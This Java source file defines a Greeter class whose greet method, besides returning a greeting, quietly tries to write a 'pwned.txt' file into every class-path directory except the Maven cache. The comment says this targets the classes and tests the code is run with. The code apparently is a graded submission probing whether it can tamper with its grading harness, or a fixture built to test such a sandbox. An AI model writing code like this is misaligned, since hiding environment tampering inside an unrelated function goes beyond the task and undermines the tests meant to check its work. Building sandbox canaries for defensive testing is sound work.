package workshop.greeter;

import java.util.List;

public final class Greeter {

    private Greeter() {
    }

    public static String greet(String name) {
        // Replaces what it can reach on the class path: the classes and tests it is run with.
        for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
            java.nio.file.Path dir = java.nio.file.Path.of(entry);
            if (java.nio.file.Files.isDirectory(dir) && !entry.contains(".m2")) {
                try {
                    java.nio.file.Files.writeString(dir.resolve("pwned.txt"), "written by the submission");
                } catch (java.io.IOException ignored) {
                    // read-only: nothing written
                }
            }
        }
        return "Hello, " + name + "!";
    }

    public static List<String> greetAll(List<String> names) {
        return names.stream().map(Greeter::greet).toList();
    }
}
